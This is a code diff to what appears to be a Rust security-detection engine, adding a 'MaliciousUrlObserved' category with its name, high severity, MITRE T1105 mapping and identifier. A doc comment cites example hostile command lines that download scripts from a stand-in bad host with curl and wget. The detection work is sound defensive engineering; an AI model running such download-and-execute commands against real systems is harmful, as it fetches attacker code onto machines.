@@ -141,10 +141,13 @@ pub enum Category {
     /// an exec session: a web server or a language runtime running a command line, the way a
     /// remote code execution does. The parent program is in `process.parent`.
     UnexpectedChildShell,
+    /// An exec's arguments hold a URL (or a host) that an IoC list names: a download from, or
+    /// a connection to, known-bad infrastructure (`curl http://.../x.sh`, `wget evil.example/b`).
+    MaliciousUrlObserved,
 }
 
 impl Category {
-    pub const ALL: [Category; 18] = [
+    pub const ALL: [Category; 19] = [
         Category::AddedBinaryExecuted,
         Category::ModifiedBinaryExecuted,
         Category::AddedMaliciousBinaryExecuted,
@@ -163,6 +166,7 @@ impl Category {
         Category::ProtectionTampered,
         Category::ReverseShell,
         Category::UnexpectedChildShell,
+        Category::MaliciousUrlObserved,
     ];
 
     pub fn as_str(self) -> &'static str {
@@ -185,6 +189,7 @@ impl Category {
             Category::ProtectionTampered => "PROTECTION_TAMPERED",
             Category::ReverseShell => "REVERSE_SHELL",
             Category::UnexpectedChildShell => "UNEXPECTED_CHILD_SHELL",
+            Category::MaliciousUrlObserved => "MALICIOUS_URL_OBSERVED",
         }
     }
 
@@ -199,7 +204,8 @@ impl Category {
             Category::FilelessExecution
             | Category::ModifiedLibraryLoaded
             | Category::ProtectionTampered
-            | Category::ReverseShell => Severity::High,
+            | Category::ReverseShell
+            | Category::MaliciousUrlObserved => Severity::High,
             Category::AddedMaliciousBinaryExecuted
             | Category::ModifiedMaliciousBinaryExecuted
             | Category::BuiltinMaliciousBinaryExecuted
@@ -240,6 +246,8 @@ impl Category {
             Category::ReverseShell => &["T1059"],
             // A service's shell: Command and Scripting Interpreter: Unix Shell.
             Category::UnexpectedChildShell => &["T1059", "T1059.004"],
+            // Known-bad infrastructure named on a command line: Ingress Tool Transfer.
+            Category::MaliciousUrlObserved => &["T1105"],
         }
     }
 
@@ -264,6 +272,7 @@ impl Category {
             Category::ProtectionTampered => "5a8d2c7e1f3b4a9c8e6d0b2f4a7c1e76",
             Category::ReverseShell => "e3b7a1c9d5f24e8a9b6c0d2f7a4e1c87",
             Category::UnexpectedChildShell => "71d4c8a2e6f94b3d8a5c1e7f0b9d2a98",
+            Category::MaliciousUrlObserved => "0c6e9a3f7b1d4e2a8c5f9b0d3e7a1f09",
         }
     }
 
